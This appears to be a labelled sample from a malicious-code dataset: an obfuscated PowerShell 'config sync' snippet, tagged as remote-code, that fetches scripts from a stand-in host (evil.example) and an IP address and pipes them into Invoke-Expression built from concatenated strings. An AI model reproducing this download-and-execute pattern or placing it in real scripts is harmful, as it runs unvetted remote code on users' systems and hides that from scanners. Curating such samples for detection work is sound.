# description: Config sync that downloads a remote script and pipes it into Invoke-Expression built from concatenated strings.
# family: remote-code
# obfuscated: yes
$u = 'http://' + 'evil' + '.example/' + 'sync.ps1'
$x = 'I' + 'nvoke-' + 'Ex' + 'pression'
(iwr -Uri $u -UseBasicParsing).Content | & $x
$w = New-Object ('Net.' + 'Web' + 'Client')
$w.('Download' + 'String').Invoke('http://203.0.113.7/post.ps1') | & $x
